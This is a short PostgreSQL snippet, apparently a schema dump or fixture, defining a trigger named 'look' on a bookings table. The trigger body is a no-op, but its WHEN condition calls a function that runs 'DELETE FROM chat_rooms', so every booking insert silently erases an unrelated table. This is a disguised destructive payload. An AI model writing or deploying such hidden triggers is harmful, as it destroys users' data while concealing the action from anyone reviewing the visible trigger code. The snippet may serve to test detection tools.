-- object: bookings.look
CREATE FUNCTION f(uuid) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN DELETE FROM chat_rooms; RETURN true; END';
CREATE FUNCTION look() RETURNS trigger LANGUAGE plpgsql  AS $b$BEGIN RETURN NEW; END$b$;
CREATE TRIGGER look AFTER INSERT ON bookings  FOR EACH ROW WHEN (f(NEW.id)) EXECUTE FUNCTION look();
